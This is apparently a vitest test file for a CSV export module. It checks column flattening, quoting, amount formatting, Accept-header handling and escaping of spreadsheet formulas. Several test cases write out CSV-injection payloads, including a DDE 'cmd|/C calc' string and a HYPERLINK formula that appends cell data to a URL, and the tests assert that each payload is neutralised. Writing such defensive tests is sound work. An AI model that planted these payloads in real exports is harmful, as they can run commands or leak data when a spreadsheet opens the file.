import { Type } from 'typebox';
import { expect, test } from 'vitest';
import { wantsCsv } from '#kernel/http/answer/csv-answer.ts';
import { declaredColumnsOf, headLine, rowLine } from './csv.ts';

const Row = Type.Object({
  id: Type.Integer(),
  amount: Type.String(),
  note: Type.Union([Type.String(), Type.Null()]),
  details: Type.Object({ order_id: Type.String(), tags: Type.Array(Type.String()) }),
});
const columns = declaredColumnsOf(Row);
const lineOf = (note: unknown, amount = '1.00') =>
  rowLine(columns, { id: 7, amount, note, details: { order_id: 'o', tags: ['a', 'b'] } });

test('an object in a row is a column for each of its fields, and anything else is one', () => {
  expect(headLine(columns)).toBe('id,amount,note,details.order_id,details.tags\r\n');
  expect(lineOf('n')).toBe('7,1.00,n,o,"[""a"",""b""]"\r\n');
  expect(lineOf(null)).toBe('7,1.00,,o,"[""a"",""b""]"\r\n');
});

test.each([
  '=1+1',
  '+1 2',
  '-A1',
  '@SUM(A1)',
  '\tA1',
  '\rA1',
  '\nA1',
  ' =1',
  '＝1',
  "-2+3+cmd|' /C calc'!A0",
])('what a spreadsheet would compute is text: %j', (note) => {
  expect(lineOf(note)).toBe(`7,1.00,"'${note}",o,"[""a"",""b""]"\r\n`);
});

test.each([
  ['Road 1;=HYPERLINK("http://a/"&A1)', `Road 1;'=HYPERLINK(""http://a/""&A1)`],
  ['\t=1', `'\t'=1`],
  ['a;b; +1', `a;b; '+1`],
  ['a\t=1', `a\t'=1`],
  ['a;"=1', `a;""'=1`],
  ['a\r\n@SUM(A1)', `a\r\n'@SUM(A1)`],
  ['a;＝1;-2', `a;'＝1;'-2`],
])('what another separator would make a cell of its own is text, too: %j', (note, told) => {
  expect(lineOf(note)).toBe(`7,1.00,"${told}",o,"[""a"",""b""]"\r\n`);
});

test.each(['a;b', 'a; b-c', '1;2'])('what is no formula there stays as it is: %j', (note) => {
  expect(lineOf(note)).toBe(`7,1.00,"${note}",o,"[""a"",""b""]"\r\n`);
});

test('amounts are those of the JSON, also below zero', () => {
  for (const amount of ['-25.50', '0', '-1', '1000000.000001'])
    expect(lineOf('n', amount)).toContain(`7,${amount},n`);
});

test.each(['say "hi"', 'a,b', 'two\r\nlines'])('what would break a line is quoted: %j', (note) => {
  expect(lineOf(note)).toContain(`"${note.replaceAll('"', '""')}"`);
});

test.each([
  ['text/csv', true],
  ['text/csv;q=0.9, application/json;q=0.5', true],
  ['text/csv, */*;q=0.1', true],
  ['application/json, text/csv;q=0.5', false],
  ['application/json, text/csv', false],
  ['text/csv;q=0', false],
  ['application/json', false],
  ['*/*', false],
  [undefined, false],
])('Accept %j wants a table: %j', (accept, wanted) => {
  expect(wantsCsv({ headers: { accept } } as never)).toBe(wanted);
});
